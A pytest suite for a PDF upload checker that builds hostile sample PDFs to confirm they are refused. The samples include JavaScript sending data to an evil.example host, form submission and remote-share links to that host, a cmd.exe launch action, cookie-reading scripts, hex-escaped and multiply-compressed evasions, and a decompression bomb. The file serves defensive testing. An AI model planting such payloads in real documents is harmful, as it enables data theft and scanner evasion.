"""Uploaded PDFs are read by a real parser (qpdf): scripts, automatic actions, embedded files,
forms, encryption and files that need repairs are refused wherever they hide; ordinary PDFs pass."""

from __future__ import annotations

import io
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from werkzeug.datastructures import FileStorage

from registry.uploads import (
    ACTIVE_PDF_MESSAGE,
    DAMAGED_PDF_MESSAGE,
    ENCRYPTED_PDF_MESSAGE,
    FORM_PDF_MESSAGE,
    LARGE_PDF_MESSAGE,
    MAX_PDF_INFLATED,
    UploadError,
    check_upload,
)
from tests import pdfs

LIMIT = 10 * 1024 * 1024
SCRIPT = String("app.launchURL('https://evil.example/' + this.info.Title)")


def refusal(data: bytes) -> str | None:
    """The message shown for this PDF, or None when it is accepted."""
    try:
        checked = check_upload(FileStorage(io.BytesIO(data), "dbs.pdf", content_type="application/pdf"), LIMIT)
    except UploadError as error:
        return str(error)
    assert checked.data == data and checked.content_type == "application/pdf"
    return None


def _link(pdf: pikepdf.Pdf, **fields) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), **fields)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _open_action_script(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(pdfs.action("JavaScript", JS=SCRIPT))


def _annotation_script(pdf):
    _link(pdf, A=pdfs.action("JavaScript", JS=SCRIPT))


def _page_additional_action(pdf):
    pdf.pages[0].AA = Dictionary(O=pdfs.action("JavaScript", JS=SCRIPT))  # runs when the page opens


def _document_script_tree(pdf):
    script = pdf.make_indirect(pdfs.action("JavaScript", JS=pdf.make_stream(b"app.alert('hi')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")


def _file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="readme.exe")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 700, 90, 720]), FS=spec.obj, Contents=String("")
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _rich_media(pdf):
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 500, 300, 700]))
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _form(pdf):
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([72, 600, 300, 620]),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _xfa_form(pdf):
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


ATTACKS = {
    "JavaScript in an annotation's action": (_annotation_script, ACTIVE_PDF_MESSAGE),
    "JavaScript run on opening": (_open_action_script, ACTIVE_PDF_MESSAGE),
    "an automatic action on a page (/AA)": (_page_additional_action, ACTIVE_PDF_MESSAGE),
    "a document-level script (/Names /JavaScript)": (_document_script_tree, ACTIVE_PDF_MESSAGE),
    "an embedded file": (_embedded_file, ACTIVE_PDF_MESSAGE),
    "a file attachment annotation": (_file_attachment_annotation, ACTIVE_PDF_MESSAGE),
    "rich media (Flash, video)": (_rich_media, ACTIVE_PDF_MESSAGE),
    "an interactive form": (_form, FORM_PDF_MESSAGE),
    "an XFA form": (_xfa_form, FORM_PDF_MESSAGE),
}


@pytest.mark.parametrize("object_streams", [False, True], ids=["plain", "in object streams"])
@pytest.mark.parametrize("name", list(ATTACKS))
def test_active_content_is_refused_whether_or_not_it_is_packed_in_object_streams(name, object_streams):
    edit, message = ATTACKS[name]
    assert refusal(pdfs.document(edit, object_streams=object_streams)) == message


@pytest.mark.parametrize(
    "kind, fields",
    [
        ("Launch", {"F": String("C:\\Windows\\System32\\cmd.exe")}),
        ("SubmitForm", {"F": String("https://evil.example/collect")}),
        ("ImportData", {"F": String("data.fdf")}),
        ("GoToE", {"D": Array([0, Name.Fit])}),
        ("GoToR", {"F": String("\\\\evil.example\\share\\leak.pdf"), "D": Array([0, Name.Fit])}),
    ],
)
def test_a_link_that_launches_a_program_sends_data_or_opens_another_file_is_refused(kind, fields):
    assert refusal(pdfs.document(lambda pdf: _link(pdf, A=pdfs.action(kind, **fields)))) == ACTIVE_PDF_MESSAGE


@pytest.mark.parametrize("flate", [1, 2, 3])
def test_a_script_in_an_object_stream_compressed_several_times_is_refused(flate):
    """The issue's case: /OpenAction JavaScript packed in an object stream with /Filter [/FlateDecode /FlateDecode]."""
    objects = {
        **pdfs.PLAIN_OBJECTS,
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        4: b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>",
    }
    data = pdfs.packed(objects, flate=flate)
    assert b"JavaScript" not in data and b"OpenAction" not in data  # invisible to a byte scan
    assert pikepdf.open(io.BytesIO(data)).Root.OpenAction.S == Name.JavaScript  # yet a reader finds it
    assert refusal(data) == ACTIVE_PDF_MESSAGE


def test_a_script_left_in_an_object_stream_the_cross_reference_table_skips_is_refused():
    """A viewer that rebuilds the table would find it, so the stream's own contents are read too."""

    def stray(pdf):
        body = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
        pdf.Root.PieceInfo = pdf.make_stream(
            zlib.compress(body), Type=Name.ObjStm, N=1, First=4, Filter=Name.FlateDecode
        )

    assert refusal(pdfs.document(stray)) == ACTIVE_PDF_MESSAGE


def _placeholder(pdf):
    # Same length as the escaped names below, so the file's offsets stay right when they are swapped in.
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary({"/S": Name("/XXXXXXXXXXXX"), "/XXXX": String("app.alert(1)")}))


def test_names_spelled_with_hex_escapes_are_read_as_the_names_they_are():
    data = pdfs.document(_placeholder).replace(b"/XXXXXXXXXXXX", b"/J#61vaScript").replace(b"/XXXX", b"/J#53")
    assert b"/JavaScript" not in data and b"/JS" not in data
    assert pikepdf.open(io.BytesIO(data)).Root.OpenAction.S == Name.JavaScript
    assert refusal(data) == ACTIVE_PDF_MESSAGE


@pytest.mark.parametrize("user_password", ["", "secret"], ids=["opens without a password", "needs a password"])
def test_an_encrypted_pdf_is_refused_as_uncheckable(user_password):
    encrypted = pdfs.document(encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    assert refusal(encrypted) == ENCRYPTED_PDF_MESSAGE


def _without_cross_reference_table(data: bytes) -> bytes:
    return data[: data.index(b"xref")] + b"trailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF\n"


def _with_wrong_offsets(data: bytes) -> bytes:
    # Bytes inserted before the objects shift them all away from where the table says they are.
    return data.replace(b"\n1 0 obj", b"\n% inserted after the table was written\n1 0 obj", 1)


@pytest.mark.parametrize("damage", [_without_cross_reference_table, _with_wrong_offsets])
def test_a_pdf_that_needs_repairs_to_read_is_refused(damage):
    """A reader would have to guess where the objects are, and another reader may guess differently."""
    data = damage(pdfs.document())
    with pytest.raises(pikepdf.PdfError):
        pikepdf.open(io.BytesIO(data), attempt_recovery=False)
    pikepdf.open(io.BytesIO(data))  # qpdf can repair it, so a browser's viewer probably can too
    assert refusal(data) == DAMAGED_PDF_MESSAGE


def _zeros_compressed(megabytes: int, times: int) -> bytes:
    compressor, zeros = zlib.compressobj(9), bytes(1024 * 1024)
    data = b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def test_a_decompression_bomb_is_refused_without_unpacking_it():
    bomb = _zeros_compressed(MAX_PDF_INFLATED // 2**20 + 8, times=2)  # 40 MB of zeros in under 1 KB
    assert len(bomb) < 1024
    # qpdf stops at the limit as it opens the file, so it cannot find the catalog packed in the stream.
    assert refusal(pdfs.packed(pdfs.PLAIN_OBJECTS, stream_data=bomb)) == DAMAGED_PDF_MESSAGE


def test_object_streams_unpacking_to_more_than_the_limit_in_all_are_refused():
    half = _zeros_compressed(MAX_PDF_INFLATED // 2**20 // 2 + 1, times=1)

    def two_streams(pdf):
        for key in ("/A", "/B"):
            pdf.Root[key] = pdf.make_stream(half, Type=Name.ObjStm, N=0, First=0, Filter=Name.FlateDecode)

    data = pdfs.document(two_streams)
    assert refusal(data) == LARGE_PDF_MESSAGE


def test_a_pdf_using_lzw_compression_is_refused_as_uncheckable():
    """qpdf has no memory limit for LZW, and decodes a cross-reference stream as it opens the file."""
    data = pdfs.document().replace(b"/FlateDecode", b"/LZW#44ecode")  # the same length: offsets stay right
    assert refusal(data) == DAMAGED_PDF_MESSAGE


def _ordinary_extras(pdf):
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # open at the first page: no action runs
    pdf.docinfo[Name.Title] = String("Enhanced DBS certificate /JavaScript /OpenAction")
    _link(pdf, A=pdfs.action("URI", URI=String("https://www.gov.uk/dbs-update-service/JS/Launch (1)\\")))


@pytest.mark.parametrize(
    "data",
    [
        pdfs.document(),
        pdfs.document(pages=4, object_streams=True),
        pdfs.document(_ordinary_extras, pages=2, object_streams=True),
        pdfs.document(_ordinary_extras),
        pdfs.packed(pdfs.PLAIN_OBJECTS, flate=2),
    ],
    ids=["one page", "four pages in object streams", "links and a start page", "uncompressed", "doubly compressed"],
)
def test_ordinary_pdfs_pass(data):
    assert refusal(data) is None
